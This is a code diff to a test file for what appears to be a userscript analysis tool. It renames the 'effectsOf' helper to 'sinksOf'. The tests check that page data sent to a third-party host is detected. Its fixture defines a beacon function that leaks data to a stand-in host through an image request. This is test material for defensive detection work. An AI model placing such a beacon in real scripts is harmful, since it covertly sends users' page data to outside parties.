@@ -1,6 +1,6 @@
 import { describe, expect, test } from "vitest";
 import { userscript } from "../testing/find-in.ts";
-import { effectsOf, traceOf } from "../testing/trace-of.ts";
+import { sinksOf, traceOf } from "../testing/trace-of.ts";
 
 const SEND = 'function send(data) { new Image().src = "https://c.test/?" + data; }\n';
 
@@ -74,17 +74,17 @@ describe("hooks", () => {
 	test.each(HOOKS)("%s: what the page gives to it is told", (_title, code, target) => {
 		const trace = traceOf(SEND + code);
 		expect(trace.hooks.map((hook) => hook.target).join(", ")).toBe(target);
-		expect(effectsOf(SEND + code)).toContain("request img.src > third-party c.test < url request (page-event)");
+		expect(sinksOf(SEND + code)).toContain("request img.src > third-party c.test < url request (page-event)");
 	});
 
 	test.each(HOOKS)("%s: a function that keeps quiet tells nothing", (_title, code) => {
-		const quiet = effectsOf(`function send() {}\n${code}`);
+		const quiet = sinksOf(`function send() {}\n${code}`);
 		expect(quiet.filter((line) => line.includes("c.test"))).toEqual([]);
 	});
 
 	test("a name of its own on the window replaces nothing", () => {
 		const trace = traceOf(`${SEND}window.myTool = (data) => send(data);`);
-		expect(trace.effects.flatMap(({ carried }) => carried)).toEqual([]);
+		expect(trace.sinks.flatMap(({ carried }) => carried)).toEqual([]);
 	});
 
 	test.each(PRIVILEGED)("what the page gets to call: %s", (_title, code) => {
